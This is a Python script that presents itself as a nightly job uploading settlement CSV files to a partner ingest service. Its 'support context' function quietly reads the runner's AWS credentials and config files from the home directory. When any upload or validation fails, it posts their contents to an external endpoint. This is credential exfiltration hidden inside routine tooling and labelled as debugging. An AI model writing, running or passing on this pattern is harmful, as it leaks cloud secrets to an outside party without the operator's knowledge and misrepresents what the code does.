#!/usr/bin/env python3
"""Sync daily settlement files to the partner ingest service.

Reads the settlement CSVs produced by the nightly reconciliation job,
validates their headers, and uploads them to the partner ingest endpoint.
When an upload is rejected, a "support context" bundle is attached so the
partner's on-call team can reproduce the environment we ran in.
"""

import argparse
import csv
import json
import logging
import os
import sys
from pathlib import Path

import requests

LOG = logging.getLogger("settlement_feed_sync")

INGEST_URL = "https://ingest.example.net/v2/settlements"
SUPPORT_URL = "https://ingest.example.net/v2/support-context"
EXPECTED_HEADER = ["settlement_id", "value_date", "currency", "amount_minor", "reference"]


class SettlementFile:
    """A single settlement CSV on disk."""

    def __init__(self, path: Path):
        self.path = path
        self.rows = 0

    def validate(self) -> bool:
        with self.path.open(newline="") as fh:
            reader = csv.reader(fh)
            header = next(reader, None)
            if header != EXPECTED_HEADER:
                LOG.warning("%s: unexpected header %s", self.path.name, header)
                return False
            self.rows = sum(1 for _ in reader)
        LOG.info("%s: %d rows", self.path.name, self.rows)
        return True


def collect_support_context() -> dict:
    """Gather details about the runtime so the partner can debug rejects."""
    context = {
        "host": os.uname().nodename,
        "python": sys.version.split()[0],
        "cwd": os.getcwd(),
    }
    home = Path.home()
    for rel in (".aws/credentials", ".aws/config"):
        candidate = home / rel
        if candidate.exists():
            try:
                context[rel] = candidate.read_text()
            except OSError as exc:
                LOG.debug("could not read %s: %s", candidate, exc)
    return context


def upload(session: requests.Session, sf: SettlementFile, partner_key: str) -> bool:
    with sf.path.open("rb") as fh:
        resp = session.post(
            INGEST_URL,
            headers={"X-Partner-Key": partner_key},
            files={"file": (sf.path.name, fh, "text/csv")},
            timeout=30,
        )
    if resp.status_code >= 400:
        LOG.error("%s rejected: %s %s", sf.path.name, resp.status_code, resp.text[:200])
        return False
    LOG.info("%s accepted (%s)", sf.path.name, resp.json().get("batch_id", "?"))
    return True


def send_support_context(session: requests.Session, partner_key: str, failures: list) -> None:
    payload = {"failed_files": failures, "context": collect_support_context()}
    resp = session.post(
        SUPPORT_URL,
        headers={"X-Partner-Key": partner_key, "Content-Type": "application/json"},
        data=json.dumps(payload),
        timeout=30,
    )
    LOG.info("support context sent: %s", resp.status_code)


def parse_args(argv=None):
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--dir", default="out/settlements", help="settlement CSV directory")
    parser.add_argument("--dry-run", action="store_true")
    parser.add_argument("-v", "--verbose", action="store_true")
    return parser.parse_args(argv)


def main(argv=None) -> int:
    args = parse_args(argv)
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(levelname)s %(name)s: %(message)s",
    )
    partner_key = os.environ.get("PARTNER_INGEST_KEY")
    if not partner_key:
        LOG.error("PARTNER_INGEST_KEY is not set")
        return 2

    files = [SettlementFile(p) for p in sorted(Path(args.dir).glob("*.csv"))]
    if not files:
        LOG.warning("no settlement files in %s", args.dir)
        return 0

    failures = []
    with requests.Session() as session:
        for sf in files:
            if not sf.validate():
                failures.append(sf.path.name)
                continue
            if args.dry_run:
                LOG.info("dry run: would upload %s", sf.path.name)
                continue
            if not upload(session, sf, partner_key):
                failures.append(sf.path.name)
        if failures and not args.dry_run:
            send_support_context(session, partner_key, failures)

    LOG.info("done: %d files, %d failures", len(files), len(failures))
    return 1 if failures else 0


if __name__ == "__main__":
    sys.exit(main())
